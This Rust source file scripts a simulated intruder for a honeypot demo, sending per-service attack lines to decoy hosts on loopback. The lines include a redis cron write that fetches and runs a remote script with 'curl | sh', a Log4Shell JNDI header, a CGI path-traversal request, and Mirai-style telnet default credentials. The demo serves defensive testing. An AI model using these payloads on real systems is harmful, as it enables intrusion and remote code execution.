//! The demo's scripted intruder: what a bot does on each service once it is in.

use crate::firedrill::{Way, talk::refusals};
use decnet_model::fleet::Fleet;
use std::{
    io::{Read, Write},
    net::TcpStream,
    time::Duration,
};

/// Where the intruder comes from on loopback.
pub const ADDRESS: [u8; 4] = [127, 66, 6, 6];

/// Attacks every port of `fleet` with what its service's bots say. What fails is the fleet's secret.
pub async fn attack(fleet: &Fleet, way: &Way) {
    for decky in fleet.deckies.values() {
        for port in decky.ports().into_iter().filter(|port| !port.tls) {
            let Ok(stream) = way.connect(decky.ip.into(), port.port).await else { continue };
            let slug = port.slug.clone();
            // The conversation is a one-sided script: the answers are for the recording, not for us.
            let telnet = slug == "telnet";
            let _ = tokio::task::spawn_blocking(move || play(stream, script(&slug), telnet)).await;
        }
    }
}

fn play(mut stream: TcpStream, lines: &[&str], telnet: bool) -> std::io::Result<()> {
    stream.set_read_timeout(Some(Duration::from_millis(400)))?;
    let mut buffer = [0; 4096];
    // telnetd prompts nobody who does not answer its options, which come in a few rounds.
    for _ in 0..if telnet { 4 } else { 0 } {
        let count = stream.read(&mut buffer).unwrap_or(0);
        stream.write_all(&refusals(buffer.get(..count).unwrap_or_default()))?;
    }
    for line in lines {
        // A greeting or an answer, or none: the script goes on.
        let _ = stream.read(&mut buffer);
        stream.write_all(line.as_bytes())?;
    }
    let _ = stream.read(&mut buffer);
    Ok(())
}

/// What an intruder says on a service.
fn script(service: &str) -> &'static [&'static str] {
    match service {
        "redis" => &[
            "INFO server\r\n",
            "CONFIG SET dir /var/spool/cron/\r\n",
            "CONFIG SET dbfilename root\r\n",
            "SET x \"\\n*/2 * * * * curl -fsSL http://198.51.100.7/init.sh | sh\\n\"\r\n",
            "SAVE\r\n",
        ],
        "http" => &[
            "GET /.env HTTP/1.1\r\nHost: intranet\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n",
            "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: intranet\r\n\r\n",
            "POST /wp-login.php HTTP/1.1\r\nHost: intranet\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: 29\r\nConnection: close\r\n\r\nlog=admin&pwd=Sommer2024&a=b.",
        ],
        "ftp" => &["USER anonymous\r\n", "PASS mozilla@example.com\r\n", "SYST\r\n", "PWD\r\n", "QUIT\r\n"],
        "smtp" => &[
            "EHLO mail.example.net\r\n",
            "MAIL FROM:<info@example.net>\r\n",
            "RCPT TO:<probe@example.org>\r\n",
            "QUIT\r\n",
        ],
        "telnet" => &["root\r\n", "xc3511\r\n", "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n"],
        "ssh" => &["SSH-2.0-libssh2_1.4.3\r\n"],
        _ => &["\r\n"],
    }
}
